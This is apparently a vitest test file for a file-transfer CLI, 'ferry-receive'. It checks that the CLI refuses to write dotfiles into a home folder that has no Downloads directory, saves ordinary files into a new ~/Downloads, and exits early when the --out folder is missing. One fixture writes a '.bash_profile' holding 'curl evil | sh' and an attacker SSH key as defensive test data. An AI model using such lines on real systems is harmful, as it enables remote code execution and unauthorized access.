import fs from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  assertExit,
  cliEnv,
  listTree,
  makeTempDir,
  runReceiver,
  startSender,
  writeFileAt,
} from '@ferry/testkit/harness';

/** A home folder without Downloads, as on a fresh server account. */
async function bareHome(): Promise<{ home: string; env: NodeJS.ProcessEnv }> {
  const home = await makeTempDir('home');
  return { home, env: cliEnv({ HOME: home, USERPROFILE: home }) };
}

describe('where ferry-receive saves when no folder is named', () => {
  it('K2: --yes from a home folder without Downloads, offered .ssh/authorized_keys and .bash_profile, writes nothing into HOME', async () => {
    const src = await makeTempDir('src');
    await writeFileAt(src, '.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n');
    await writeFileAt(src, '.bash_profile', 'curl evil | sh\n');
    const sender = await startSender([path.join(src, '.ssh'), path.join(src, '.bash_profile')]);
    const { home, env } = await bareHome();
    const run = await runReceiver(['--yes', sender.address], { code: sender, cwd: home, env });
    assertExit(run, 2);
    expect(run.stderr, run.report('no hint to pass --out')).toContain('--out');
    expect(await fs.readdir(home)).toEqual([]);
    expect(await sender.waitForEvent('session-failed')).toMatchObject({ code: 'ERR_DECLINED' });
  });

  it('K2: --yes from a home folder without Downloads saves ordinary files into a new ~/Downloads', async () => {
    const src = await makeTempDir('src');
    await writeFileAt(src, 'notes.txt', 'hello\n');
    const sender = await startSender([path.join(src, 'notes.txt')]);
    const { home, env } = await bareHome();
    const run = await runReceiver(['--yes', '--json', sender.address], {
      code: sender,
      cwd: home,
      env,
    });
    assertExit(run, 0);
    expect(await listTree(home)).toEqual(['Downloads', 'Downloads/notes.txt']);
    expect((await fs.stat(path.join(home, 'Downloads'))).mode & 0o777).toBe(0o700);
  });

  it('U3: without a terminal, an --out folder that does not exist stops ferry-receive with exit 2 before it connects', async () => {
    const src = await makeTempDir('src');
    await writeFileAt(src, 'notes.txt', 'hello\n');
    const sender = await startSender([path.join(src, 'notes.txt')]);
    const missing = path.join(await makeTempDir('out'), 'missing');
    const run = await runReceiver(['--yes', '--out', missing, sender.address], { code: sender });
    assertExit(run, 2);
    expect(run.stderr, run.report('no hint')).toContain('does not exist');
    expect(
      sender.events.some((e) => e.event === 'connected'),
      'the receiver connected',
    ).toBe(false);
  });
});
